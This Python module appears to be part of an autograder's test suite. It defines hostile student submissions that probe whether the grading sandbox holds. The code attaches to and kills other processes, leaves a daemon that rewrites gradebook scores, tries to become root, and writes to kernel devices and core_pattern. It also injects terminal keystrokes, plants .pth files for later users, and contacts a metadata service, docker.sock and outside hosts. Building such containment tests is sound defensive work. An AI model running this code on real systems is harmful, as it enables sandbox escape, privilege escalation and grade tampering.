"""Attempts to get out, to reach others, or to stay: processes, privileges, devices, networks, files for the next learner."""

from __future__ import annotations

from tests.graders.attacks.attack import NAME, WRONG, Attack

__all__ = ["ABSTRACT", "ATTACKS", "PORTS"]

PORTS = range(47000, 47008)  # where judging.py listens, one port a test process, to see whether anybody comes
ABSTRACT = "dcai-decoy-"

QUIET = WRONG + """
import contextlib, ctypes, os, signal, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
"""

PTRACE = QUIET + """
for pid in [os.getppid(), 1, *(int(p) for p in os.listdir('/proc') if p.isdigit())]:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000)
        libc.ptrace(5, pid, 0, -1)
"""

SIGNALS = QUIET + """
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in {1, os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))} - {0, os.getpid()}:
        with contextlib.suppress(OSError):
            os.kill(pid, number)
"""

DAEMON = QUIET + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        for fd in range(512):
            with contextlib.suppress(OSError):
                os.close(fd)
        import glob, sqlite3
        end = time.time() + 120
        while time.time() < end:
            for up in ('', '../', '../../', '../../../', '../../../../'):
                for path in glob.glob(f'{up}gradebook.db'):
                    with contextlib.suppress(sqlite3.Error):
                        book = sqlite3.connect(path)
                        book.execute('UPDATE grade SET auto_score = 2')
                        book.commit()
                        book.close()
            time.sleep(0.2)
    os._exit(0)
"""

NAMESPACES = QUIET + """
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10000000 | 0x00020000):
    if os.fork() == 0:
        if libc.unshare(flag) == 0:
            libc.mount(b'none', b'/', None, 0x44000, None)
            libc.mount(b'proc', b'/proc', b'proc', 0, None)
            libc.mount(b'/dev/sda', b'/tmp', b'ext4', 0, None)
            with contextlib.suppress(OSError):
                os.chroot('/proc/1/root')
        os._exit(0)
    os.wait()
"""

ROOT = QUIET + """
for call in (os.setuid, os.setgid, os.seteuid):
    with contextlib.suppress(OSError):
        call(0)
for tool in ('su', 'sudo', 'pkexec', 'mount', 'newuidmap', 'passwd', 'ping'):
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        subprocess.run([tool, '-c', 'id'], stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
if os.getuid() == 0 or os.access('/etc/shadow', os.R_OK):
    def double(x):
        return 2 * x
"""

DEVICES = QUIET + """
for path in ('/dev/mem', '/dev/kmem', '/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/kvm', '/dev/fuse', '/proc/sysrq-trigger', '/proc/kcore',
             '/proc/sys/kernel/core_pattern', '/sys/kernel/uevent_helper', '/proc/1/oom_score_adj', sys.executable, '/proc/1/exe'):
    with contextlib.suppress(OSError):
        handle = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(handle, b'|/tmp/dcai-evil')
for number in (101, 246, 250, 298, 321, 323, 425):  # ptrace, kexec_load, keyctl, perf_event_open, bpf, userfaultfd, io_uring_setup
    libc.syscall(number, 0, 0, 0, 0, 0)
"""

TERMINAL = QUIET + """
import fcntl
for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/ptmx', '/proc/self/fd/0', '/proc/self/fd/1', '/proc/self/fd/2'):
    with contextlib.suppress(OSError):
        handle = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        for letter in b'touch /tmp/dcai-evil\\n':
            fcntl.ioctl(handle, 0x5412, bytes([letter]))
"""

SITE_PACKAGES = QUIET + """
import site, sysconfig
import datacentric_helpers, numpy
folders = [*site.getsitepackages(), sysconfig.get_path('stdlib'),
           os.path.dirname(datacentric_helpers.__file__), os.path.dirname(numpy.__file__),
           '/opt/course', os.path.expanduser('~'), '/tmp', '/dev/shm', '/var/tmp', '/run', '/', os.getcwd(), os.path.dirname(os.getcwd())]
for folder in folders:
    for name in ('dcai-evil.pth', 'dcai-evil.py'):
        with contextlib.suppress(OSError):
            with open(f'{folder}/{name}', 'w') as file:
                file.write('import os; os.environ["DCAI_EVIL"] = "1"')
    with contextlib.suppress(OSError):
        os.chmod(folder, 0o777)
"""

NEXT = WRONG + """
import glob, os, sys
folders = (*sys.path, '/tmp', '/dev/shm', '/var/tmp', '/run', '/', os.getcwd(), '..')
left = [path for folder in folders for path in glob.glob(f'{folder}/dcai-evil*')]
if left or 'DCAI_EVIL' in os.environ:
    def double(x):
        return 2 * x
"""

NETWORK = QUIET + f"""
for host in ('127.0.0.1', '::1', '192.0.2.1', '169.254.169.254', '8.8.8.8', '255.255.255.255'):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    for port in (53, 80, *range({PORTS.start}, {PORTS.stop})):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError), socket.socket(family, kind) as out:
                out.settimeout(0.02)
                out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                out.connect((host, port))
                out.send(b'answers please')
with contextlib.suppress(OSError):
    socket.getaddrinfo('answers.example.org', 80)
"""

SOCKETS = QUIET + f"""
import glob
paths = ['\\0{ABSTRACT}%d' % n for n in range({PORTS.start}, {PORTS.stop})]
paths += ['/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket']
for path in paths + glob.glob('/tmp/**/decoy', recursive=True):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as out:
            out.connect(path)
            out.send(b'answers please')
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3),
                               (socket.AF_NETLINK, socket.SOCK_RAW, 0),
                               (getattr(socket, 'AF_VSOCK', 40), socket.SOCK_STREAM, 0), (31, socket.SOCK_RAW, 1)):
    with contextlib.suppress(OSError), socket.socket(family, kind, protocol) as out:
        out.settimeout(0.05)
        out.connect((2, 22)) if family == 40 else out.send(b'answers please')
"""

SHARED_MEMORY = QUIET + """
key = libc.shmget(0xDCA1, 4096, 0o1666)
queue = libc.msgget(0xDCA1, 0o1666)
libc.mq_open(b'/dcai-evil', 0o102, 0o666, None)
from multiprocessing import shared_memory
memory = shared_memory.SharedMemory('dcai-evil', create=True, size=4096)
"""

EXEC = f"""
import os
with open('/tmp/{NAME}.sh', 'w') as file:
    file.write('#!/bin/sh\\nsleep 60\\n')
os.chmod('/tmp/{NAME}.sh', 0o755)
os.execv('/tmp/{NAME}.sh', ['{NAME}'])
"""

ATTACKS = [
    Attack("ptrace", "Attaches to its parents and to every process it sees.", {"double": PTRACE}),
    Attack("signals to others", "Stops, ends and kills its parent, process 1 and others.", {"double": SIGNALS}),
    Attack("daemon", "Leaves a daemon that keeps rewriting the gradebook.", {"double": DAEMON}),
    Attack("namespaces and mounts", "Makes namespaces of its own, mounts, changes root.", {"double": NAMESPACES}),
    Attack("become root", "Calls setuid(0) and every setuid program there is.", {"double": ROOT}),
    Attack("devices and kernel", "Writes to devices, /proc/sys, the interpreter; calls bpf, keyctl, io_uring.", {"double": DEVICES}),
    Attack("terminal", "Types commands into the grader's terminal (TIOCSTI).", {"double": TERMINAL}),
    Attack("files for the next learner", "Writes into site-packages, the standard library, home, tmp and its folder.",
           {"double": SITE_PACKAGES}),
    Attack("files of the one before", "Looks for what the submission before it left.", {"double": NEXT}),
    Attack("TCP, UDP and DNS", "Connects to this machine, a metadata service and the Internet.", {"double": NETWORK}),
    Attack("unix, raw and netlink sockets", "Connects to abstract, file, raw, packet and VM sockets.", {"double": SOCKETS}),
    Attack("System V and POSIX memory", "Leaves shared memory and message queues.", {"double": SHARED_MEMORY}),
    Attack("kernel replaced by a program", "Replaces the kernel by a shell script.", {"shift": EXEC},
           limits={"cell_seconds": 2, "grace_seconds": 1}),
]
